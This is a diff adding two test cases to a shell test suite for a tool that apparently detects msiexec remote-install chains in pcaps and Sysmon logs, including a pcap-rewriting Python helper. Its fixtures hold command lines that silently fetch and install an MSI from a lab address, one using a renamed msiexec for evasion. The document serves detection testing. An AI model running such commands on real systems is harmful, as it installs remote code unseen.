@@ -205,6 +205,71 @@ alerts -r "$L/http-msi.pcap" -e "$TMP/cu.jsonl" >"$TMP/a13"
 expect_eq "certutil's command line is not an msiexec chain (the capture's Windows Installer fetch stays network-only)" \
     "$(jq -c '[.msiwatch.alert.kind, .event.severity]' "$TMP/a13" | tr '\n' ' ')" '["network-only",2] '
 
+# 15. a renamed msiexec (OriginalFileName msiexec.exe) with an IP literal and a port
+T=$(t0 "$L/http-gzip-msi.pcap")
+sysmon1 "$T" -0.3 40 'C:\Users\labuser\Downloads\update.exe' 'update.exe /i http://10.77.0.20:8080/pkg/setup.msi /qn' \
+    msiexec.exe >"$TMP/renamed.jsonl"
+alerts -r "$L/http-gzip-msi.pcap" -e "$TMP/renamed.jsonl" >"$TMP/a16"
+expect_eq "renamed msiexec, IP literal and port: high, renamed-msiexec among the reasons, joined on port 8080" \
+    "$(jq -c '[.event.severity, (.msiwatch.reasons | index("renamed-msiexec") != null), .process.executable, .msiwatch.evidence.network[0].destination.port]' "$TMP/a16")" \
+    '[4,true,"C:\\Users\\labuser\\Downloads\\update.exe",8080]'
+
+# 16. two hosts at once, only one malicious: http-msi.pcap and a copy whose
+#     client is 10.77.0.11 (addresses rewritten, checksums recomputed, 0.2 s
+#     later); WIN10-B's own connection names its address. One alert, on
+#     WIN10-LAB, with WIN10-LAB's fetch only.
+python3 - "$L/http-msi.pcap" "$TMP/two.pcap" <<'EOF2'
+import struct, sys
+raw = open(sys.argv[1], "rb").read()
+e = "<" if raw[:4] == b"\xd4\xc3\xb2\xa1" else ">"
+recs, off = [], 24
+while off + 16 <= len(raw):
+    s, us, incl, orig = struct.unpack(e + "IIII", raw[off:off + 16])
+    recs.append((s + us / 1e6, raw[off + 16:off + 16 + incl], orig))
+    off += 16 + incl
+def csum(b):
+    if len(b) % 2: b += b"\0"
+    x = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while x >> 16: x = (x & 0xFFFF) + (x >> 16)
+    return ~x & 0xFFFF
+A, B = bytes([10, 77, 0, 10]), bytes([10, 77, 0, 11])
+out = []
+for t, f, orig in recs:
+    out.append((t, f, orig))
+    if len(f) < 34 or f[12:14] != b"\x08\x00":
+        continue
+    g = bytearray(f)
+    ihl = (g[14] & 15) * 4
+    for o in (26, 30):
+        if g[o:o + 4] == A: g[o:o + 4] = B
+    g[24:26] = b"\0\0"
+    g[24:26] = struct.pack("!H", csum(bytes(g[14:14 + ihl])))
+    if g[23] == 6:
+        tl = struct.unpack("!H", g[16:18])[0] - ihl
+        seg = g[14 + ihl:14 + ihl + tl]
+        seg[16:18] = b"\0\0"
+        ph = bytes(g[26:34]) + struct.pack("!BBH", 0, 6, tl)
+        seg[16:18] = struct.pack("!H", csum(ph + bytes(seg)))
+        g[14 + ihl:14 + ihl + tl] = seg
+    out.append((t + 0.2, bytes(g), orig))
+out.sort(key=lambda r: r[0])
+with open(sys.argv[2], "wb") as w:
+    w.write(raw[:24])
+    for t, f, orig in out:
+        w.write(struct.pack(e + "IIII", int(t), int(round((t % 1) * 1e6)) % 1000000, len(f), orig) + f)
+EOF2
+T=$(t0 "$L/http-msi.pcap")
+{ sysmon1 "$T" -0.4 41 "$MSIEXEC" 'msiexec.exe /q /i http://10.77.0.20/pkg/setup.msi'
+  sysmon3 "$T" 0.0 41 10.77.0.20 80
+  sysmon1 "$T" -0.1 42 'C:\Windows\System32\notepad.exe' 'notepad.exe C:\Users\b\todo.txt' notepad.exe |
+      sed 's/WIN10-LAB.lab.msiwatch.test/WIN10-B.lab.msiwatch.test/'
+  printf '{"Hostname":"WIN10-B.lab.msiwatch.test","SourceName":"Microsoft-Windows-Sysmon","EventID":3,"UtcTime":"%s","ProcessGuid":"{4a1b2c3d-0000-1111-2222-000000000043}","ProcessId":"5043","Image":"C:\\\\Program Files (x86)\\\\Microsoft\\\\Edge\\\\Application\\\\msedge.exe","Protocol":"tcp","Initiated":"true","SourceIp":"10.77.0.11","SourcePort":"51000","DestinationIp":"10.77.0.20","DestinationPort":"80","DestinationHostname":"-","SourceModuleType":"im_msvistalog"}\n' "$(utc "$T" 0.2)"
+} >"$TMP/two.jsonl"
+alerts -r "$TMP/two.pcap" -e "$TMP/two.jsonl" >"$TMP/a17"
+expect_eq "two hosts, one malicious: one alert, on WIN10-LAB, with only WIN10-LAB's fetch" \
+    "$(jq -c '[.host.name, .host.ip, ([.msiwatch.evidence.network[] | .source.ip] | unique)]' "$TMP/a17" | tr '\n' ' ')" \
+    '["WIN10-LAB.lab.msiwatch.test","10.77.0.10",["10.77.0.10"]] '
+
 # 14. bounds: an events-only day of runs passes through --max-pending 100
 #     (the events move the clock and close the windows), and 150 runs open
 #     at once overflow it, counted
